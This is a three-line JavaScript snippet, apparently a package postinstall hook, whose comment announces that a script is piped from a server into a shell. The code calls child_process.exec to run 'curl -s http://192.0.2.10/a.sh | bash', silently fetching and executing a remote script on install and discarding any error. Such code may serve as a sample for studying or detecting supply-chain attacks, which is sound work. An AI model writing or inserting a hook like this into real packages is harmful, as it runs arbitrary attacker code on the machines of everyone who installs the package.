// A script is piped from a server into a shell; runs: postinstall
const child = require("child_process");
child.exec("curl -s http://192.0.2.10/a.sh | bash", () => {});
